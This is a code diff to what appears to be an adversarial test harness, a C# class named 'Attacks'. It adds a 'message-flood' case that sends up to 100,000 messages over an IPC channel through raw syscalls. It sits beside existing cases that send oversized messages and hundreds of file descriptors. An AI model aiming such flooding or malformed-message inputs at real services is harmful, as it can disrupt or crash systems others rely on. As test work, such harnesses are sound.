@@ -145,6 +145,7 @@ internal static class Attacks
         new("message-of-monitor", _ => Say([24, 0, 0, 0, 0, 0, 0, 0])),
         new("message-of-parser", _ => Say([8, .. new byte[4127]])),
         new("message-with-descriptor", loot => Say([14, 0, 0, 0, 0, 0, 0, 0], loot.Log)),
+        new("message-flood", _ => Flood([14, 0, 0, 0, 0, 0, 0, 0])),
         new("message-with-descriptors", loot => Say([14, 0, 0, 0, 0, 0, 0, 0], [.. Enumerable.Repeat(loot.Log, 200)])),
     ];
 
@@ -160,6 +161,21 @@ internal static class Attacks
     {
         nint sent = Call(46, Loot.Channel, Header([], message, descriptors), 0x4000);
         Call(7, 0, 0, 5000);
+        return sent;
+    }
+
+    // A wish again and again. The answers are read without what comes with them, so that neither side ever waits for the other.
+    private static nint Flood(byte[] message)
+    {
+        nint content = Memory(message);
+        nint answer = Memory();
+        nint sent = 0;
+        for (int i = 0; i < 100_000 && sent >= 0; i++)
+        {
+            sent = Call(1, Loot.Channel, content, message.Length);
+            Call(0, Loot.Channel, answer, 4096);
+        }
+
         return sent;
     }
 
